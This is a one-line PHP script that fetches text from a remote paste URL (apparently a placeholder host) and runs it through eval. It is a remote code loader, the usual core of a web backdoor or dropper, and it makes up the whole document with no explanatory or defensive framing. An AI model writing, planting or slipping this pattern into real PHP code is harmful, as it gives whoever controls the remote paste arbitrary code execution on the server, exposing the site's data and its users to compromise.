<?php $c = file_get_contents("https://paste.example.invalid/raw/xyz"); eval($c);
